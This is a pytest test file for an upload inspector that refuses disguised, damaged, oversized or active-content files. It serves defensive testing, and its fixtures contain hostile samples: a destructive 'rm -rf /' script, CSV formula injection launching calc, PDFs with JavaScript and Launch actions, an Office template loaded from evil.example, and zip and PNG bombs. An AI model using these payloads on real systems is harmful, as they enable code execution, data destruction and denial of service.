"""What bad files get: a refusal that names the fact, and nothing kept."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest

from microcred.foundation import inspection
from microcred.foundation.inspection import images
from microcred.foundation.inspection import office as office_inspection
from microcred.foundation.tests.inspection.files import (
    HTML,
    PROGRAM,
    SVG,
    box,
    chunk,
    mp4,
    office,
    open_document,
    packed,
    wav,
)
from microcred.portfolios.tests.make import pdf, picture


def refusal(name: str, content: bytes) -> inspection.FileRefused:
    with pytest.raises(inspection.FileRefused) as refused:
        inspection.inspect(BytesIO(content), name)
    assert str(refused.value)
    return refused.value


@pytest.mark.parametrize(
    ("name", "content", "really"),
    [
        ("plan.pdf", PROGRAM, "a program"),
        ("plan.pdf", b"\x7fELF" + bytes(100), "a program"),
        ("photo.png", SVG, "an SVG drawing"),
        ("photo.png", b"\xef\xbb\xbf  \n" + SVG, "an SVG drawing"),
        ("photo.jpg", HTML, "a web page"),
        ("photo.jpg", b"GIF89a" + bytes(100), "a GIF picture"),
        ("notes.txt", HTML, "a web page"),
        ("notes.txt", b"#!/bin/sh\nrm -rf /\n", "a script"),
        ("notes.txt", b"PK\x03\x04" + bytes(100), "a packed archive"),
        ("notes.md", bytes(range(256)), "nothing that we recognize"),
        ("plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an Office file of the old kind"),
        ("plan.docx", packed({"hello.txt": b"hello"}), "a packed archive of something else"),
        ("plan.docx", office("xlsx"), "a packed archive of something else"),
        ("plan.odt", open_document(b"spreadsheet"), "a packed archive of something else"),
        ("talk.mp3", mp4(), "an MP4 recording"),
        ("film.mp4", picture(), "a PNG picture"),
        ("talk.wav", b"RIFF\x10\x00\x00\x00AVI " + bytes(50), "nothing that we recognize"),
    ],
)
def test_a_disguise_is_named(name, content, really):
    refused = refusal(name, content)
    assert isinstance(refused, inspection.FileDisguised)
    assert really in str(refused)
    assert name in str(refused)


@pytest.mark.parametrize(
    ("name", "way"),
    [
        ("plan.exe", "Documents are taken as PDF"),
        ("plan", "without an extension"),
        ("drawing.svg", "JPEG or PNG"),
        ("page.html", "Print the page to PDF"),
        ("old.doc", "Save it as PDF"),
        ("macro.docm", "macros"),
        ("photo.heic", "as JPEG; on an iPhone"),
        ("all.zip", "one by one"),
        ("plan.pdf.exe", ".exe"),
    ],
)
def test_a_type_that_is_not_taken_comes_with_the_way_forward(name, way):
    refused = refusal(name, b"anything")
    assert isinstance(refused, inspection.FileTypeNotTaken)
    assert way in str(refused)


@pytest.mark.parametrize("name", ["plan.pdf", "notes.txt", "photo.png", "plan.docx", "film.mp4"])
def test_empty_is_empty(name):
    assert isinstance(refusal(name, b""), inspection.FileEmpty)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", picture()[:-20]),
        ("photo.png", picture("PNG", (400, 400))[:300]),
        ("photo.jpg", picture("JPEG", (400, 400))[:500]),
        ("photo.gif", b"GIF89a" + bytes(20)),
        ("photo.webp", b"RIFF\x20\x00\x00\x00WEBP" + bytes(20)),
        ("plan.pdf", pdf()[: len(pdf()) // 2]),
        ("plan.pdf", b"%PDF-1.7\n" + b"nothing " * 40 + b"\nstartxref\n5\n%%EOF\n"),
        ("plan.docx", office()[:200]),
        ("film.mp4", mp4()[:-10]),
        ("film.mp4", box(b"ftyp", b"isom0000isom")),
        ("talk.wav", wav()[:-10]),
        ("talk.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x05hello nothing follows"),
        ("notes.txt", "Größe".encode("latin-1")),
    ],
)
def test_what_breaks_off_is_damaged(name, content):
    assert isinstance(refusal(name, content), inspection.FileDamaged | inspection.FileDisguised)


def test_a_picture_of_too_many_pixels_is_not_decoded():
    # Only the header says 60,000 × 60,000; the pixels would take 10 GB.
    def part(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    bomb = b"\x89PNG\r\n\x1a\n" + part(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    bomb += part(b"IDAT", zlib.compress(bytes(1000))) + part(b"IEND", b"")
    assert isinstance(refusal("photo.png", bomb), inspection.FileUnpacksTooLarge)


def test_a_picture_of_many_pixels_below_pillows_own_limit_is_refused_too(monkeypatch):
    monkeypatch.setattr(images, "MOST_PIXELS", 1000)
    assert isinstance(refusal("photo.png", picture()), inspection.FileUnpacksTooLarge)


@pytest.mark.parametrize(
    ("parts", "fact"),
    [
        ({"word__vbaProject_dot_bin": b"macro"}, "macros"),
        ({"word__embeddings__oleObject1_dot_bin": b"\xd0\xcf\x11\xe0"}, "embedded objects"),
        ({"word__media__image1_dot_png": PROGRAM}, "embedded objects or programs"),
        ({"customUI__run_dot_exe": b"x"}, "embedded objects or programs"),
        ({"word__x_dot_xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}, "definitions"),
        (
            {
                "word___rels__settings_dot_xml_dot_rels": b'<R><r Type="http://x/attachedTemplate" '
                b'Target="https://evil.example/t.dotm" TargetMode="External"/></R>'
            },
            "loaded from elsewhere",
        ),
        (
            {
                "word___rels__document_dot_xml_dot_rels": b'<R><r Type="http://x/image" '
                b'Target="https://tracker.example/p.png" TargetMode="External"/></R>'
            },
            "loaded from elsewhere",
        ),
    ],
)
def test_active_content_of_office_files_is_named(parts, fact):
    refused = refusal("plan.docx", office(**parts))
    assert isinstance(refused, inspection.FileHasActiveContent)
    assert fact in str(refused)


def test_a_macro_file_by_its_content_type_is_named():
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert isinstance(refusal("plan.docx", office(main=kind)), inspection.FileHasActiveContent)
    assert isinstance(refusal("plan.odt", open_document(Basic__script=b"x")), inspection.FileHasActiveContent)


def test_a_macro_within_an_embedded_sheet_is_found():
    inner = office("xlsx", xl__vbaProject_dot_bin=b"x")
    refused = refusal("plan.docx", office(word__embeddings__sheet_dot_xlsx=inner))
    assert isinstance(refused, inspection.FileHasActiveContent)


def test_a_link_is_no_active_content():
    rels = b'<R><r Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></R>'
    assert inspection.inspect(BytesIO(office(word___rels__document_dot_xml_dot_rels=rels)), "plan.docx")


def test_a_zip_bomb_is_counted_as_it_unpacks():
    bomb = office(word__bomb_dot_xml=bytes(60 * 1024 * 1024))
    assert len(bomb) < 100_000
    assert isinstance(refusal("plan.docx", bomb), inspection.FileUnpacksTooLarge)


def test_a_zip_that_lies_about_its_sizes_is_refused():
    bomb = bytearray(office(word__bomb_dot_xml=bytes(20 * 1024 * 1024)))
    at = bomb.rfind(b"word/bomb.xml") - 46
    bomb[at + 24 : at + 28] = struct.pack("<I", 10)
    refused = refusal("plan.docx", bytes(bomb))
    assert isinstance(refused, inspection.FileDamaged | inspection.FileUnpacksTooLarge)


def test_archives_within_archives_have_a_floor():
    content = b"<x/>"
    for _depth in range(6):
        content = packed({"inner.bundle": content})
    assert isinstance(refusal("plan.docx", office(word__deep_dot_bundle=content)), inspection.FileUnpacksTooLarge)


def test_overlapping_entries_are_refused():
    # Two entries of the directory name the same bytes: unpacked sizes multiply for free.
    content = bytearray(office())
    with zipfile.ZipFile(BytesIO(bytes(content))) as archive:
        first, second = archive.infolist()[:2]
    at = content.rfind(second.filename.encode()) - 46
    content[at + 42 : at + 46] = struct.pack("<I", first.header_offset)
    assert isinstance(refusal("plan.docx", bytes(content)), inspection.FileUnpacksTooLarge | inspection.FileDamaged)


def test_a_locked_archive_is_named():
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    assert isinstance(refusal("plan.docx", bytes(content)), inspection.FileLocked)


@pytest.mark.parametrize(
    ("name", "content", "where"),
    [
        ("plan.pdf", pdf() + HTML, "behind"),
        ("plan.pdf", pdf() + packed({"a.class": b"x" * 4000}, compression=zipfile.ZIP_STORED), "behind"),
        ("plan.pdf", pdf().replace(b"\n", b"\n<html><script>x</script>\n", 1), "in front of"),
        ("plan.docx", office() + HTML, "behind"),
        ("talk.wav", wav() + HTML, "behind"),
    ],
    ids=["page behind pdf", "archive behind pdf", "page in front of pdf", "page behind docx", "page behind wav"],
)
def test_a_polyglot_carries_other_data(name, content, where):
    refused = refusal(name, content)
    assert isinstance(refused, inspection.FileCarriesMore)
    assert where in str(refused)


def active_pdf(change) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    target = BytesIO()
    # Object streams hide names from whoever only searches the bytes.
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def launch(document):
    document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))


def attachment(document):
    document.attachments["virus.exe"] = PROGRAM


@pytest.mark.parametrize("change", [script, launch, attachment])
def test_active_content_of_a_pdf_is_found_where_it_hides(change):
    assert isinstance(refusal("plan.pdf", active_pdf(change)), inspection.FileHasActiveContent)


def test_a_pdf_with_a_password_is_named():
    document = pikepdf.new()
    document.add_blank_page()
    target = BytesIO()
    document.save(target, encryption=pikepdf.Encryption(owner="o", user="u"))
    assert isinstance(refusal("plan.pdf", target.getvalue()), inspection.FileLocked)


@pytest.mark.parametrize(
    ("name", "content", "fact"),
    [
        ("notes.md", b"# Plan\n\n<script>alert(1)</script>", "markup"),
        ("notes.txt", b"Plan\n<iframe src=x>", "markup"),
        ("table.csv", b"a,b\n1,=cmd|' /C calc'!A0\n", "formulas"),
        ("table.csv", b'"=HYPERLINK(""http://x"")",b\n', "formulas"),
        ("table.csv", b"@SUM(1+1),b\n", "formulas"),
    ],
)
def test_text_that_could_run_is_named(name, content, fact):
    refused = refusal(name, content)
    assert isinstance(refused, inspection.FileHasActiveContent)
    assert fact in str(refused)


def test_a_wav_with_a_chunk_that_lies_about_its_length_is_damaged():
    content = bytearray(wav(chunk(b"LIST", b"INFO")))
    at = content.find(b"LIST")
    content[at + 4 : at + 8] = struct.pack("<I", 2**31)
    assert isinstance(refusal("talk.wav", bytes(content)), inspection.FileDamaged)


def test_the_limits_are_what_the_page_promises():
    assert office_inspection.MOST_BYTES == 300 * 1024 * 1024
    assert images.MOST_PIXELS == 60_000_000
